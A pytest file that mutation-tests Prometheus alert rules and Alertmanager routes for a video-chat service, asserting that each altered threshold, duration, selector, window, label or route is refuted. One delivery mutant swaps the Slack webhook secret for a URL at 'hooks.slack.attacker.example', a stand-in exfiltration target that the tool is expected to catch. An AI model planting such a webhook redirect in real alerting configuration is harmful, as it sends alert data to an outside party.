"""A change to a rule turns the run red, and the message names alert, contract and measured value."""

from __future__ import annotations

from dataclasses import dataclass
from typing import TYPE_CHECKING

import pytest

from alertproof.load.estate import load_estate
from alertproof.model.proof import Aspect, Proof, Run, Verdict
from alertproof.proof.run import run_proofs

if TYPE_CHECKING:
    from pathlib import Path

    from alertproof.engines.host import Host

RULES = "rules/prometheus/video_chat/alerts.yml"
ROUTES = "rules/alertmanager/video_chat.yml"
LATENCY, ICE, TURN = "HighSignalingLatency", "LowICESuccessRate", "TURNUnavailable"


@dataclass(frozen=True)
class Mutant:
    """A text replaced in a file, the alert it must refute, the aspect that notices, and what the reason must say."""

    alert: str
    old: str
    new: str
    aspect: Aspect
    says: str
    file: str = RULES


_T, _F, _S = Aspect.THRESHOLD, Aspect.FOR, Aspect.SELECTION
MUTANTS = [
    Mutant(LATENCY, "> 500", "> 505", _T, "flips at 505 ms, the contract says > 500 ms"),
    Mutant(LATENCY, "> 500", "> 495", _T, "flips at 495 ms, the contract says > 500 ms"),
    Mutant(LATENCY, "> 500", ">= 500", _T, "at exactly 500 ms it fires; the contract says > 500 ms"),
    Mutant(LATENCY, "> 500", "< 500", _T, "the contract says > 500 ms"),
    Mutant(LATENCY, "> 500", "> 500.001", _T, "flips at 500.001 ms"),
    Mutant(ICE, "< 0.90", "< 0.909", _T, "flips at 0.909, the contract says < 0.9"),
    Mutant(ICE, "< 0.90", "< 0.891", _T, "flips at 0.891, the contract says < 0.9"),
    Mutant(ICE, "< 0.90", "<= 0.90", _T, "at exactly 0.9 it fires; the contract says < 0.9"),
    Mutant(TURN, "== 0", "== 0.01", _T, "silent at every level"),
    Mutant(TURN, "== 0", "== 1", _T, "fires at 1; the contract says == 0"),
    Mutant(TURN, "== 0", "<= 1", _T, "fires at every level"),
    Mutant(LATENCY, "0.95", "0.96", _T, "the contract says > 500 ms"),
    Mutant(LATENCY, "for: 5m", "for: 5m15s", _F, "fires after 5m15s, the contract says for 5m"),
    Mutant(LATENCY, "for: 5m", "for: 4m45s", _F, "fires after 4m45s, the contract says for 5m"),
    Mutant(LATENCY, "        for: 5m\n", "", _F, "fires after 0s, the contract says for 5m"),
    Mutant(TURN, "for: 2m", "for: 2m15s", _F, "fires after 2m15s, the contract says for 2m"),
    Mutant(TURN, "for: 2m", "for: 1m45s", _F, "fires after 1m45s, the contract says for 2m"),
    Mutant(TURN, "        for: 2m\n", "", _F, "fires after 0s, the contract says for 2m"),
    Mutant(LATENCY, 'bucket{job="backend"}', "bucket", _S, "job='not-backend'"),
    Mutant(ICE, 'connected_total{job="backend"}', "connected_total", _S, "job='not-backend'"),
    Mutant(ICE, 'attempted_total{job="backend"}', "attempted_total", _S, "job='not-backend'"),
    Mutant(TURN, '{job="coturn"}', "", _S, "job='not-coturn'"),
    Mutant(TURN, "== 0", '== 0 unless on() up{job="backend"} == 0', _S, "at the firing level beside another"),
    Mutant(LATENCY, "sum by (le)", "sum", _T, "its left side is empty or NaN"),
    Mutant(LATENCY, "sum by (le)", "sum by (le, instance)", Aspect.INSTANCES, "instance=backend-1"),
    Mutant(ICE, "sum(rate(ice_connected", "avg(rate(ice_connected", Aspect.INSTANCES, "expected"),
    Mutant(LATENCY, "[5m]", "[10m]", Aspect.WINDOW, "a breach just before its window"),
    Mutant(LATENCY, "[5m]", "[2m]", Aspect.WINDOW, "a breach early in its window"),
    Mutant(LATENCY, "[5m]", "[5m] offset 15s", Aspect.WINDOW, "a breach in the last sample of its window"),
    Mutant(ICE, "[5m]", "[5m] offset 1m", Aspect.WINDOW, "a breach in the last sample of its window"),
    Mutant(ICE, "severity: warning", "severity: warning\n          tier: eu", Aspect.LABELS, "tier=eu"),
    Mutant(ICE, "annotations:\n", "annotations:\n          note: x\n", Aspect.ANNOTATIONS, "note is 'x'"),
    Mutant(TURN, 'up{job="coturn"}', 'max_over_time(up{job="coturn"}[4m])', _F, "pending only"),
    Mutant(TURN, "for: 2m", "for: 2m\n        keep_firing_for: 1m", Aspect.RESOLVE, "gone 1m after"),
    Mutant(LATENCY, "          severity: critical\n", "", Aspect.LABELS, "severity=critical"),
    Mutant(ICE, "severity: warning", "severity: critical", Aspect.LABELS, "severity=warning"),
    Mutant(LATENCY, 'printf "%.0f" }} ms', 'printf "%.0f" }} s', Aspect.ANNOTATIONS, "p95 750 s"),
    Mutant(TURN, "$labels.instance", "$labels.pod", Aspect.ANNOTATIONS, "summary is 'TURN server  is down'"),
    Mutant(ICE, "sum(rate(ice_connected", "max(rate(ice_connected", Aspect.INSTANCES, "series that differ in instance"),
    Mutant(
        ICE,
        'attempted_total{job="backend"}[5m]',
        'attempted_total{job="backend"}[10m]',
        Aspect.WINDOW,
        "with traffic that falls just before its window at 0.99: expected none, got the alert",
    ),
    Mutant(
        ICE,
        'attempted_total{job="backend"}[5m]',
        'attempted_total{job="backend"}[2m]',
        Aspect.WINDOW,
        "with traffic that is high early in its window at 0.75: expected the alert, got none",
    ),
    Mutant(LATENCY, "rate(", "delta(", Aspect.WINDOW, "with counters that start anew in its window"),
    Mutant(
        TURN,
        "service: video-chat",
        "service: video-chat\n          instance: coturn-1",
        Aspect.LABELS,
        "it sets instance to one text for every alert",
    ),
]
DELIVERY_MUTANTS = [
    Mutant(LATENCY, "          severity: critical\n", "", Aspect.DELIVERY, "pagerduty never heard of it"),
    Mutant(TURN, "receiver: pagerduty", "receiver: slack", Aspect.DELIVERY, "pagerduty never heard", ROUTES),
    Mutant(LATENCY, "      continue: true\n", "", Aspect.DELIVERY, "slack never heard of it", ROUTES),
    Mutant(ICE, "send_resolved: true", "send_resolved: false", Aspect.DELIVERY, "never heard that it resolved", ROUTES),
    Mutant(ICE, "[{{ .Status | toUpper }}] ", "", Aspect.DELIVERY, "does not say whether", ROUTES),
    Mutant(
        ICE,
        "{{ .Status | toUpper }}",
        '{{ if eq .Status "firing" }}RESOLVED{{ else }}FIRING{{ end }}',
        Aspect.DELIVERY,
        "the first that slack is told is that it resolved",
        ROUTES,
    ),
    Mutant(
        LATENCY,
        "severity: '{{ .CommonLabels.severity }}'",
        "severity: warning",
        Aspect.DELIVERY,
        "pagerduty is told severity 'warning', the contract says 'critical'",
        ROUTES,
    ),
    Mutant(
        ICE,
        "  routes:\n",
        "  routes:\n    - {matchers: [severity = warning], continue: true}\n    - matchers: [severity = warning]\n",
        Aspect.DELIVERY,
        "slack is told twice in the same words that it fires",
        ROUTES,
    ),
    Mutant(
        TURN, "receiver: slack\n  group_by", "receiver: nobody\n  group_by", Aspect.DELIVERY, "nobody is told", ROUTES
    ),
    Mutant(
        LATENCY,
        "slack_api_url_file: /etc/alertmanager/secrets/slack_api_url",
        "slack_api_url: https://hooks.slack.attacker.example/services/T0/B0/x",
        Aspect.DELIVERY,
        "hooks.slack.attacker.example",
        ROUTES,
    ),
]


def name(mutant: Mutant) -> str:
    return f"{mutant.alert}: {mutant.old.strip()} → {mutant.new.strip() or 'removed'}"


def run_mutant(host: Host, estate: Path, folder: Path, mutant: Mutant, *, delivers: bool) -> Run:
    file = estate / mutant.file
    text = file.read_text("utf-8")
    # The alert's own text: a change elsewhere would refute another alert.
    start = text.index(f"- alert: {mutant.alert}") if mutant.file == RULES else 0
    assert mutant.old in text[start:]
    file.write_text(text[:start] + text[start:].replace(mutant.old, mutant.new), encoding="utf-8")
    folder.mkdir()
    return run_proofs(host, folder, load_estate([estate]), delivers=delivers, once=True)


def noticed(run: Run, mutant: Mutant) -> Proof:
    assert not run.good
    proof = next(proof for proof in run.proofs if proof.id.alert == mutant.alert)
    assert proof.verdict is Verdict.REFUTED
    outcome = next(outcome for outcome in proof.outcomes if outcome.aspect is mutant.aspect)
    assert outcome.verdict is Verdict.REFUTED
    assert mutant.says in outcome.reason
    return proof


def test_the_estate_itself_is_proved(host: Host, copied_estate: Path, tmp_path: Path) -> None:
    run = run_proofs(host, tmp_path, load_estate([copied_estate]), delivers=False)
    assert run.good, [proof.reason for proof in run.proofs]


@pytest.mark.parametrize("mutant", MUTANTS, ids=name)
def test_a_changed_rule_is_refuted(host: Host, copied_estate: Path, tmp_path: Path, mutant: Mutant) -> None:
    noticed(run_mutant(host, copied_estate, tmp_path / "run", mutant, delivers=False), mutant)


@pytest.mark.slow
@pytest.mark.parametrize("mutant", DELIVERY_MUTANTS, ids=name)
def test_a_changed_route_is_refuted(host: Host, copied_estate: Path, tmp_path: Path, mutant: Mutant) -> None:
    noticed(run_mutant(host, copied_estate, tmp_path / "run", mutant, delivers=True), mutant)


def test_an_alert_without_contract_and_a_contract_without_alert_are_red(
    host: Host, copied_estate: Path, tmp_path: Path
) -> None:
    contracts = copied_estate / "rules/contracts/video_chat.yml"
    contracts.write_text(contracts.read_text("utf-8").replace(f"alert: {TURN}", "alert: TURNGone"), encoding="utf-8")
    run = run_proofs(host, tmp_path, load_estate([copied_estate]), delivers=False)
    assert not run.good
    assert next(p for p in run.proofs if p.id.alert == TURN).verdict is Verdict.UNDECIDED
    assert any(
        "TURNGone has no alert" in finding.problem.replace("{'service': 'video-chat'} ", "") for finding in run.findings
    )


def test_a_rule_file_that_is_not_loaded_is_red(host: Host, copied_estate: Path, tmp_path: Path) -> None:
    stray = copied_estate / "rules/prometheus/video_chat/more.yml"
    stray.write_text("groups: [{name: g, rules: [\n  {\n  alert: A, expr: up}]}]\n")
    run = run_proofs(host, tmp_path, load_estate([copied_estate]), delivers=False)
    assert not run.good
    assert any("does not load it" in finding.problem for finding in run.findings)


def test_two_alerts_of_one_name_are_proved_by_themselves(host: Host, copied_estate: Path, tmp_path: Path) -> None:
    rules, contracts = copied_estate / RULES, copied_estate / "rules/contracts/video_chat.yml"
    text = rules.read_text("utf-8")
    twin = text[text.index("      # SLO: ICE") : text.index("      # SLO: TURN")].replace(
        "service: video-chat", "service: video-chat\n          tier: eu"
    )
    rules.write_text(f"{text}\n{twin.replace('for: 5m', 'for: 6m')}", encoding="utf-8")
    text = contracts.read_text("utf-8")
    entry = next(part for part in text.split("\n\n") if f"alert: {ICE}" in part)
    entry = entry.replace("{service: video-chat}", "{service: video-chat, tier: eu}").replace("for: 5m", "for: 6m")
    contracts.write_text(f"{text}\n{entry}\n", encoding="utf-8")
    run = run_proofs(host, tmp_path, load_estate([copied_estate]), delivers=False)
    assert run.good, [proof.reason for proof in run.proofs]
    assert sorted(p.for_measured_ms or 0 for p in run.proofs if p.id.alert == ICE) == [300_000, 360_000]


RECORDED = "      - record: turn:up\n        expr: up{job='coturn'}\n"


@pytest.mark.parametrize("before", [True, False], ids=["before the alert", "behind the alert"])
def test_an_alert_is_proved_through_a_recording_rule_and_late_where_that_stands_behind_it(
    host: Host, copied_estate: Path, tmp_path: Path, *, before: bool
) -> None:
    rules = copied_estate / RULES
    text = rules.read_text("utf-8").replace('expr: up{job="coturn"} == 0', "expr: turn:up == 0")
    text = text.replace("    rules:\n", f"    rules:\n{RECORDED}", 1) if before else text + RECORDED
    rules.write_text(text, encoding="utf-8")
    run = run_proofs(host, tmp_path, load_estate([copied_estate]), delivers=False)
    proof = next(proof for proof in run.proofs if proof.id.alert == TURN)
    if before:
        assert proof.verdict is Verdict.PROVED, proof.reason
    else:
        assert "pending only 15s after the breach began" in proof.reason


def test_a_recording_rule_that_records_something_else_refutes_the_alert_that_reads_it(
    host: Host, copied_estate: Path, tmp_path: Path
) -> None:
    rules = copied_estate / RULES
    text = rules.read_text("utf-8").replace('expr: up{job="coturn"} == 0', "expr: turn:up == 0")
    rules.write_text(text.replace("    rules:\n", f"    rules:\n{RECORDED.replace('coturn', 'turn')}", 1))
    run = run_proofs(host, tmp_path, load_estate([copied_estate]), delivers=False)
    proof = next(proof for proof in run.proofs if proof.id.alert == TURN)
    assert "silent at every level" in proof.reason
